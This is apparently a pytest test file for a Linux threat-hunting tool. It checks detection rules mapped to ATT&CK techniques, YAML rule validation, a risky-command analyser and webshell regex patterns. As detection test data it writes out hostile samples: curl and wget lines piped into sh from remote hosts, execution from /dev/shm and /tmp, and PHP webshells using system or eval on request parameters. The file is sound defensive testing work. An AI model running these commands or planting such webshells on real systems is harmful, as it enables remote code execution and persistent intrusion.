"""Hunt rules as data: every rule passes Debian's state and fails the technique's, the
catalogue validates with file and line, and the command analysis reads real-world lines."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from assessor.errors import ConfigError
from assessor.hunt.catalogue import HuntRule, judge_rules, load_rules, state_vars
from assessor.hunt.kinds import Context, fingerprint
from assessor.hunt.shell import risks
from assessor.intel import Indicator, IndicatorType, Origin, hunt_tables
from assessor.results import Status

RULES = load_rules()
WRITABLE = ("/tmp", "/var/tmp", "/dev/shm")


def context(rule: HuntRule) -> Context:
    indicators = [
        Indicator(IndicatorType(i["type"]), i["value"], (Origin("fixture bundle", "indicator--1"),))
        for i in rule.fixtures.get("indicators", [])
    ]
    return Context(hunt_tables(indicators))


def with_params(rule: HuntRule) -> HuntRule:
    params = {**rule.params, **rule.fixtures.get("params", {})}
    return HuntRule(**{**rule.__dict__, "params": params})


def test_the_catalogue_covers_the_techniques_the_issue_names() -> None:
    ids = {r.id for r in RULES}
    assert len(ids) == len(RULES) >= 15
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", r.attack) for r in RULES)
    covered = {p for r in RULES for p in r.probes}
    assert covered >= {"preload", "cron", "systemd", "shell_rc", "authorized_keys", "suid",
                       "dpkg_md5", "processes", "hidden_processes", "sockets",
                       "kernel_modules", "accounts", "web_content"}


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_every_rule_passes_its_clean_fixture(rule: HuntRule) -> None:
    assert rule.fixtures.get("pass") is not None, f"{rule.source}: no pass fixture"
    findings = judge_rules([with_params(rule)], rule.fixtures["pass"], context(rule))
    assert [(f.control_id, f.status) for f in findings] == [(rule.id, Status.PASS)], findings


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_every_rule_fails_its_compromised_fixture(rule: HuntRule) -> None:
    assert rule.fixtures.get("fail") is not None, f"{rule.source}: no fail fixture"
    findings = judge_rules([with_params(rule)], rule.fixtures["fail"], context(rule))
    assert findings and all(f.status is Status.FAIL for f in findings), findings
    assert all(f.control_id.startswith(rule.id + ":") for f in findings)
    assert all(f.refs["attack"] == rule.attack for f in findings)


def test_a_failed_probe_is_an_error_never_a_pass() -> None:
    rule = next(r for r in RULES if r.id == "hunt.live.process-hidden")
    findings = judge_rules([rule], {"hidden_processes": {"error": "ps exited 1"}}, context(rule))
    assert [(f.status, f.reason) for f in findings] == [
        (Status.ERROR, "probe hidden_processes failed on the host: ps exited 1")]
    cut = judge_rules([rule], {"cut_short": ["hidden_processes"]}, context(rule))
    assert cut[0].status is Status.ERROR
    suid = next(r for r in RULES if r.id == "hunt.persist.suid-unowned")
    partial = {"suid": {"complete": False, "reason": "walk stopped early", "files": []}}
    assert judge_rules([suid], partial, context(suid))[0].status is Status.ERROR


def test_kernel_modules_of_a_container_are_the_machines() -> None:
    rule = next(r for r in RULES if r.id == "hunt.live.kernel-module-unpackaged")
    state = {"kernel_modules": {"release": "6.12.0", "tree": False,
                                "loaded": [{"name": "overlay", "path": "", "package": ""}]}}
    assert judge_rules([rule], state, context(rule))[0].status is Status.NOTAPPLICABLE


def test_the_key_allowlist_does_not_apply_without_a_list() -> None:
    rule = next(r for r in RULES if r.id == "hunt.persist.ssh-key-allowlist")
    findings = judge_rules([rule], rule.fixtures["fail"], context(rule))
    assert findings[0].status is Status.NOTAPPLICABLE


def test_fingerprint_is_the_one_ssh_keygen_prints() -> None:
    # `ssh-keygen -lf` of this key printed SHA256:QeV6...
    blob = "AAAAC3NzaC1lZDI1NTE5AAAAICrvuYbFYgWZZ5/0u0rSkmGZs7HNh0g3KmVL/1CIRgoy"
    assert fingerprint(blob) == "SHA256:QeV6yVbjbzNUBPKJw6IKZTIGb4F43uCA3CnHkDvLcvw"
    assert fingerprint("not base64!") == ""


def test_shells_added_since_the_previous_hunt() -> None:
    rule = next(r for r in RULES if r.id == "hunt.persist.accounts-shell")
    before = {"accounts": [{"name": "root", "uid": "0", "shell": "/bin/bash"},
                           {"name": "ops", "uid": "1000", "shell": "/bin/bash"}]}
    now: dict[str, Any] = {"accounts": [*before["accounts"],
                                        {"name": "alice", "uid": "1001", "shell": "/bin/zsh"}]}
    ctx = Context(hunt_tables([]), baseline=before)
    assert [f.control_id for f in judge_rules([rule], now, ctx)] == [
        "hunt.persist.accounts-shell:alice"]
    assert judge_rules([rule], before, ctx)[0].status is Status.PASS


@pytest.mark.parametrize("line", [
    "@reboot curl -fsSL http://203.0.113.7/k.sh | sh",
    "wget -q -O - http://x/y|/bin/bash",
    "bash -c \"$(curl -fsSL http://x/i)\"",
    "/dev/shm/.x/run",
    "nohup sh /var/tmp/s.sh &",
    "python3 /tmp/.p.py",
    ". /dev/shm/.env",
    "/bin/sh -c 'cp /bin/sleep /dev/shm/k && exec /dev/shm/k'",
    "/root/.cache/.k/kthreadd -d",
    "exec /usr/local/bin/.hidden",
])
def test_risky_commands(line: str) -> None:
    assert risks(line, WRITABLE), line


@pytest.mark.parametrize("line", [
    ". ~/.bash_aliases", '. "$HOME/.cargo/env"', '. "$HOME/.bashrc"',
    'PATH="$HOME/.local/bin:$PATH"',
    "if [ -d \"$HOME/.local/bin\" ] ; then",
    "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
    "curl -o /var/cache/x.tar.gz https://example.org/x.tar.gz", "find /tmp -mtime +7 -delete",
    "sh -c 'echo ok'",
])
def test_ordinary_commands(line: str) -> None:
    assert risks(line, WRITABLE) == [], line


def test_webshell_patterns_match_webshells_not_ordinary_php() -> None:
    rule = next(r for r in RULES if r.id == "hunt.live.webshell")
    patterns = [re.compile(p) for p in rule.params["patterns"]]
    shells = ["<?php system($_GET['cmd']); ?>", "<?php @eval(base64_decode($_POST['z']));",
              "<?php eval(gzinflate(base64_decode('7X1r')));", "<?php passthru( $_REQUEST[\"c\"]);"]
    ordinary = ["<?php define('WP_USE_THEMES', true); require __DIR__ . '/wp-blog-header.php';",
                "<?php echo htmlspecialchars($_GET['q']); exec('ls'); ?>"]
    assert all(any(p.search(s) for p in patterns) for s in shells)
    assert not any(p.search(s) for p in patterns for s in ordinary)


def test_state_vars_ask_for_every_probe_and_pattern() -> None:
    extra = state_vars(RULES)
    assert "dpkg_md5" in extra["hunt_probes"]
    assert len(extra["hunt_web_patterns"]) == 2


def write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path.parent


GOOD = """\
- id: local.cron-miner
  title: A job runs xmrig
  severity: high
  attack: T1496
  rationale: Miners.
  expected: no miner
  check: {kind: suspicious_command, probe: cron, writable: [/srv/upload]}
"""


def test_user_rules_add_and_replace(tmp_path: Path) -> None:
    replace = GOOD.replace("local.cron-miner", "hunt.persist.ssh-key-allowlist").replace(
        "suspicious_command, probe: cron, writable: [/srv/upload]",
        "key_allowlist, probe: authorized_keys, allowed: [SHA256:abc]")
    (tmp_path / "a.yaml").write_text(GOOD)
    (tmp_path / "b.yaml").write_text(replace)
    rules = {r.id: r for r in load_rules(tmp_path)}
    assert len(rules) == len(RULES) + 1
    assert rules["hunt.persist.ssh-key-allowlist"].params["allowed"] == ["SHA256:abc"]
    assert rules["local.cron-miner"].source == f"{tmp_path / 'a.yaml'}:1"


@pytest.mark.parametrize(("text", "message"), [
    (GOOD.replace("severity: high", "severity: dire"), r"a\.yaml:3: .*severity 'dire'"),
    (GOOD.replace("suspicious_command", "regex"), r"a\.yaml:7: .*check kind 'regex'"),
    (GOOD.replace("probe: cron", "probe: crontab"), r"a\.yaml:7: .*probe 'crontab'"),
    (GOOD.replace("  attack: T1496\n", ""), r"a\.yaml:1: .*missing attack"),
    (GOOD + "  colour: red\n", r"a\.yaml:8: .*unknown key colour"),
    (GOOD + GOOD, r"a\.yaml:8: hunt rule local.cron-miner is already defined at .*a\.yaml:1"),
    ("- id: [\n", r"a\.yaml:2: hunt rules is not valid YAML"),
])
def test_bad_user_rules_name_file_and_line(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "a.yaml").write_text(text)
    with pytest.raises(ConfigError, match=message):
        load_rules(tmp_path)


def test_command_lines_in_findings_hide_password_like_values() -> None:
    rule = next(r for r in RULES if r.id == "hunt.live.indicator-process")
    findings = judge_rules([rule], rule.fixtures["fail"], context(rule))
    assert "--pass=<redacted>" in findings[0].reason and "--pass=x" not in findings[0].reason
    assert findings[0].refs["indicator_sources"] == ["fixture bundle indicator--1"]
